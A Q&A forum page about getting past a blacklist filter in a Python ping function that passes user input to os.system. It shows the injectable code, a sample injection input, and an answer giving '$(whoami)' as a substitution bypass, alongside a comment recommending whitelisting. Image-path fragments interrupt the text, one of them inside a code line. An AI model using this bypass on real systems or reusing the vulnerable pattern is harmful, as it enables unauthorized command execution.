I have "blackbox" with the following python function code (without permission to change it):

def exec_ping():
    forbidden = ['&', ';', '-', '`', '||', '|']
    command = input('Enter an IP: ')
    for i in forbidden:
        if i incommand:
            print('Invalid characters')
    os.system('ping ' + command)

I want to execute this function with the following command input:

-c 1 localhost; whoami;

To get this command to be running:

ping -c 1 localhost; whoami;

How can I bypass the forbidden characters check? Can I use another characters/encoding?

  • 1
    Side note: This script (which is presumably a teaching tool) is a great demonstration of why whitelisting or explicit type deserialization is better than blacklist attempts - parsing out an IP address (v4 or v6) would be both easier, faster (given the nested loops), and additionally more secure. – Clockwork-Muse Aug 2 '19 at 17:55

$(whoami) should bypass the filter and executes whoami.

YourAnswer

By clicking “Post Your Answer”, you agreeto our terms of service, privacy policy and cookie policyNot the answer you're looking for? Browse other questions tagged or ask your own question.